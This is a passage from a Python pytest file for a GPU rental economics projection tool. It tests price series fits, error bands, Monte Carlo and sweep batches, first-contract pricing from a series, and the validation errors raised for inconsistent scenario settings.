    a, b = project(by_series).monthly, project(by_hand).monthly
    for column in (
        "contract_revenue_usd",
        "spot_revenue_usd",
        "revenue_usd",
        "cash_flow_project_usd",
    ):
        np.testing.assert_allclose(a[column].to_numpy(), b[column].to_numpy(), rtol=1e-8, atol=1e-6)
    assert a["spot_revenue_usd"].sum() > 0 and a["contract_revenue_usd"].sum() > 0
    warning = next(w for w in project(by_series).summary.iloc[0]["warnings"] if "Pub/Exact" in w)
    assert "publisher Pub" in warning and "2026-05-01" in warning
    assert "extrapolated beyond 2026-05-01" in warning and "floor fit" in warning


@pytest.fixture
def noisy_index(tmp_path, monkeypatch):
    """An index whose H200 on-demand curve scatters about P = 1.2 + 3 e^(-0.7 t): a fit with an
    error band, its last point 2026-05-01 (month 0 of MARKET's start)."""
    noisy = [1.0, 1.03, 0.98, 1.02, 0.99, 1.01]
    body = "".join(
        f"{d},Pub/Noisy,H200,0,{(1.2 + 3.0 * math.exp(-0.7 * t)) * e:.12f},test\n"
        for (d, t), e in zip(_dated_ages(), noisy, strict=True)
    )
    path = _write(tmp_path, body)
    monkeypatch.setattr(ri, "catalog_path", lambda: path)
    return path


def test_band_shifts_extrapolated_prices_and_monte_carlo_columns_do_the_same(noisy_index):
    overrides = [*MARKET[:3], "market.contract_share=0", 'market.rental_series="Pub/Noisy"']
    base = load_scenario(BASE, overrides)
    high = load_scenario(BASE, [*overrides, "market.rental_series_band_sigmas=1.6448536269514722"])
    b0, b1 = ScenarioBatch.from_scenarios(base), ScenarioBatch.from_scenarios(high)
    sd = b0.extras["market.rental_table_log_sd"][0]
    p0 = b0.extras["market.rental_table_usd_per_gpu_hour"][0]
    p1 = b1.extras["market.rental_table_usd_per_gpu_hour"][0]
    beyond = sd > 0
    assert beyond.sum() > 0 and np.all(sd[:6] == 0)
    np.testing.assert_allclose(p1[:6], p0[:6])  # the series' own points do not move
    np.testing.assert_allclose(p1[beyond], p0[beyond] * np.exp(1.6448536269514722 * sd[beyond]))
    # Monte Carlo replaces the column of a repeated batch: the same prices as compiled
    repeated = ScenarioBatch.repeat(
        base, 2, {"market.rental_series_band_sigmas": [0.0, 1.6448536269514722]}
    )
    table = repeated.extras["market.rental_table_usd_per_gpu_hour"]
    np.testing.assert_allclose(table[0], p0, equal_nan=True)
    np.testing.assert_allclose(table[1], p1, equal_nan=True)
    assert (
        project(high).summary.iloc[0]["revenue_usd_total"]
        > project(base).summary.iloc[0]["revenue_usd_total"]
    )


PRICED_FROM_SERIES = [  # the first contract at the series' month-1 price: no contract price
    *MARKET,
    "market.contract_usd_per_gpu_hour=0",
    'market.rental_series="Pub/Noisy"',
]


def _sweep_rows(capsys, *args) -> list[dict]:
    """The scenarios of `econ sweep BASE --set PRICED_FROM_SERIES... ARGS --format json`."""
    sets = [a for o in PRICED_FROM_SERIES for a in ("--set", o)]
    assert main(["sweep", str(BASE), *sets, *args, "--format", "json"]) == 0
    return json.loads(capsys.readouterr().out)["scenarios"]


@pytest.mark.parametrize(
    "grid",
    [
        "market.rental_series_band_sigmas=-1.6448536269514722,0,1.6448536269514722",
        "utilization.share=0.5,0.7",
        "market.contract_share=0,0.3,1",
        "market.contract_usd_per_gpu_hour=0,2.5",  # 0: the series' price, as a file's 0 is
        "horizon_months=24,36,60",  # compiled to 36: a longer horizon held its last price flat
    ],
)
def test_a_sweep_of_a_scenario_priced_from_a_series_equals_its_projections(
    noisy_index, capsys, grid
):
    path, values = grid.split("=")
    rows = _sweep_rows(capsys, "--grid", grid)
    assert len(rows) == len(values.split(","))
    for row, value in zip(rows, values.split(","), strict=True):
        ref = project(load_scenario(BASE, [*PRICED_FROM_SERIES, f"{path}={value}"]))
        for key in ("npv_usd", "revenue_usd_total", "ebitda_usd_total"):
            assert row["summary"][key] == pytest.approx(float(ref.metrics[key][0]), abs=0.005)
    # the band moves the first contract too: month 1 is beyond the series' last point
    if path == "market.rental_series_band_sigmas":
        revenues = [r["summary"]["revenue_usd_total"] for r in rows]
        assert revenues[0] < revenues[1] < revenues[2]


def test_a_batch_of_a_scenario_priced_from_a_series_takes_the_series_contract_price(noisy_index):
    base = load_scenario(BASE, [*PRICED_FROM_SERIES[:3], "market.contract_share=0",
                                *PRICED_FROM_SERIES[4:]])  # fmt: skip
    columns = {
        "market.contract_share": [0.4, 0.4, 1.0],
        "market.rental_series_band_sigmas": [0.0, 1.5, -2.0],
        "market.contract_usd_per_gpu_hour": [0.0, 0.0, 3.1],
    }
    batch = project(ScenarioBatch.repeat(base, 3, columns))
    for i in range(3):
        overrides = [f"{path}={values[i]!r}" for path, values in columns.items()]
        ref = project(load_scenario(BASE, [*PRICED_FROM_SERIES, *overrides])).monthly
        got = batch.lines["contract_revenue_usd"][i]
        np.testing.assert_allclose(got, ref["contract_revenue_usd"].to_numpy(), atol=0.005)
        assert got[1] > 0
    # the first contract at the month-1 price of the series' table as compiled at that band
    compiled = ScenarioBatch.from_scenarios(
        load_scenario(BASE, [*PRICED_FROM_SERIES, "market.rental_series_band_sigmas=1.5"])
    )
    months = compiled.extras["market.rental_table_months"][0]
    prices = compiled.extras["market.rental_table_usd_per_gpu_hour"][0]
    from econ.market import table_price_path

    month1 = table_price_path(months[None, :], prices[None, :], np.array([1]))[0, 0]
    assert compiled["market.contract_usd_per_gpu_hour"][0] == pytest.approx(month1, rel=1e-12)


def test_a_batch_of_what_the_series_is_compiled_with_is_refused_before_it_runs(
    noisy_index, capsys
):
    sets = [a for o in PRICED_FROM_SERIES for a in ("--set", o)]
    grid = ["--grid", "market.rental_decline_annual=0.2,0.3"]
    assert main(["sweep", str(BASE), *sets, *grid]) == 3
    err = capsys.readouterr().err
    assert "market.rental_decline_annual cannot be varied" in err
    assert "market.rental_series_band_sigmas for its error band" in err
    assert "contract_usd_per_gpu_hour" not in err and "Traceback" not in err


def test_the_monte_carlo_command_market_show_suggests_runs(tmp_path, capsys):
    """docs/market.md: `econ market show` suggests a --dist; on a scenario whose first contract
    is priced from the series it runs (it was refused as a contract without a price)."""
    show = ["market", "show", "SemiAnalysis/RentalIndex", "--gpu", "H100", "--term", "12"]
    assert main(show) == 0
    line = next(x for x in capsys.readouterr().out.splitlines() if x.startswith("Monte Carlo:"))
    dist = line.split("--dist", 1)[1].strip()
    scenario = tmp_path / "sa.toml"
    text = (ROOT / "docs" / "market.md").read_text()
    market = text.split("## A scenario priced from a series")[1].split("```toml")[1]
    market = market.split("```")[0]
    scenario.write_text(
        'schema_version = 1\nname = "sa"\nstart_date = 2026-01-01\nhorizon_months = 48\n'
        "[throughput]\ntokens_per_s_per_gpu = 1000.0\n[utilization]\nshare = 0.8\n"
        "[capex]\ngpu_price_usd = 25000.0\n[depreciation]\nlife_years = 4.0\n"
        + market.replace("[fleet]\n", "[fleet]\ngpu_count = 100\n")
    )
    for decline in ([], ["--set", "market.rental_decline_annual=0", "--set",
                         "market.rental_floor_usd_per_gpu_hour=0"]):  # fmt: skip
        args = ["montecarlo", str(scenario), *decline, "--dist", dist, "-n", "64"]
        assert main([*args, "--format", "json"]) == 0, capsys.readouterr().err
        assert "revenue_usd_total" in capsys.readouterr().out
    assert main(["sensitivity", str(scenario), "--range",
                 "market.rental_series_band_sigmas=-1.645,1.645"]) == 0  # fmt: skip


def test_series_with_one_point_needs_a_decline_and_uses_it(capsys):
    overrides = [
        "start_date=2026-08-01",
        "market.contract_share=1",
        "market.contract_usd_per_gpu_hour=0",
        "market.contract_term_months=12",
        'market.rental_series="SemiAnalysis/TCO"',
        "market.rental_series_term_months=36",
    ]
    scenario = load_scenario(BASE, overrides)  # h200-sxm: gpu H200
    with pytest.raises(ri.RentalIndexError, match="rental_decline_annual"):
        project(scenario)
    declining = load_scenario(
        BASE,
        [
            *overrides,
            "market.rental_decline_annual=0.3",
            "market.rental_floor_usd_per_gpu_hour=1.41",
        ],
    )
    monthly = project(declining).monthly
    # first contract at the month-1 price: 2.90 (2026-07-01) declined 0.3/yr for 2 months to 1.41
    expected = 1.41 + (2.90 - 1.41) * 0.7 ** (
        (dt.date(2026, 9, 1) - dt.date(2026, 7, 1)).days / 365.25
    )
    gpus = monthly["gpus_in_service"].to_numpy()
    month1 = monthly["contract_revenue_usd"].to_numpy()[1] / (gpus[1] * 730.0)
    assert month1 == pytest.approx(expected, rel=1e-9)


GPU_HOURS_FROM_SERIES = [
    'market.spot_sells="gpu_hours"',
    'market.rental_series="CCIR/CRI-T1IF"',  # H200 on-demand: fitted decline 61% a year
]


def test_a_floor_the_price_would_fall_below_unheeded_is_refused():
    """A floor given beside a series' fitted decay, or beside a rental table, set no price: the
    CCIR tier-1 H200 series with a floor of 1.22 (the H200 hyperscaler TCO) fell to 0.66
    USD/GPU-hour by month 36 and 0.10 by month 60, and a table with a 50% decline and a floor
    of 2.2 held its last 2.0, both read with no word."""
    with pytest.raises(ScenarioError, match="rental_decline_annual is 0") as info:
        load_scenario(BASE, [*GPU_HOURS_FROM_SERIES, "market.rental_floor_usd_per_gpu_hour=1.22"])
    assert "rental_floor_usd_per_gpu_hour 1.22" in str(info.value)
    floored = load_scenario(
        BASE,
        [
            *GPU_HOURS_FROM_SERIES,
            "market.rental_floor_usd_per_gpu_hour=1.22",
            "market.rental_decline_annual=0.5",
        ],
    )
    rental = scenario_price_paths(floored)["market_rental_usd_per_gpu_hour"]
    assert 1.22 < rental.min() < 2.0  # falls towards the floor given, never below it
    table = ["market.rental_table=[{month = 1, price_usd_per_gpu_hour = 2.5}, "
             "{month = 13, price_usd_per_gpu_hour = 2.0}]"]  # fmt: skip
    given = ["market.rental_decline_annual=0.5", "market.rental_floor_usd_per_gpu_hour=2.2"]
    with pytest.raises(ScenarioError, match="rental_table is given together with") as info:
        load_scenario(BASE, ['market.spot_sells="gpu_hours"', *table, *given])
    assert "rental_decline_annual 0.5 and rental_floor_usd_per_gpu_hour 2.2" in str(info.value)
    for one in given:
        with pytest.raises(ScenarioError, match=one.split(".")[1].split("=")[0]):
            load_scenario(BASE, ['market.spot_sells="gpu_hours"', *table, one])
    load_scenario(BASE, ['market.spot_sells="gpu_hours"', *table])  # the table alone


def test_scenario_refusals_name_the_field():
    with pytest.raises(ScenarioError, match="rental_usd_per_gpu_hour"):
        load_scenario(
            BASE, ['market.rental_series="CCIR/CRI-T2IF"', "market.rental_usd_per_gpu_hour=3"]
        )
    with pytest.raises(ScenarioError, match="rental_series"):
        load_scenario(BASE, ["market.rental_series_band_sigmas=1"])
    with pytest.raises(ScenarioError, match="rental_series_band_sigmas"):
        load_scenario(
            BASE, ['market.rental_series="CCIR/CRI-T2IF"', "market.rental_series_band_sigmas=5"]
        )
    with pytest.raises(ScenarioError, match="rental_series"):
        load_scenario(BASE, ['market.rental_series="no publisher"'])
    scenario = load_scenario(
        BASE, ['market.rental_series="CCIR/CRI-T2IF"', "market.rental_series_term_months=12"]
    )
    with pytest.raises(ri.RentalIndexError, match="no term of 12 months; its terms are 0 months"):
        project(scenario)


def test_cli_project_exits_3_on_a_series_the_index_lacks(tmp_path, capsys):
    assert main(["project", str(BASE), "--set", 'market.rental_series="Nobody/Nothing"']) == 3
    err = capsys.readouterr().err
    assert str(BASE) in err and "CCIR/CRI-T2IF" in err and "Traceback" not in err


def test_a_batch_cannot_vary_what_the_series_was_compiled_with(exact_index):
    scenario = load_scenario(
        BASE, [*MARKET, 'market.rental_series="Pub/Exact"', "market.rental_series_term_months=12"]
    )
    with pytest.raises(InputError, match="rental_series_term_months cannot be varied"):
        ScenarioBatch.repeat(scenario, 2, {"market.rental_series_term_months": [0, 12]})
    with pytest.raises(InputError, match="rental_decline_annual cannot be varied"):
        ScenarioBatch.repeat(scenario, 2, {"market.rental_decline_annual": [0.1, 0.2]})
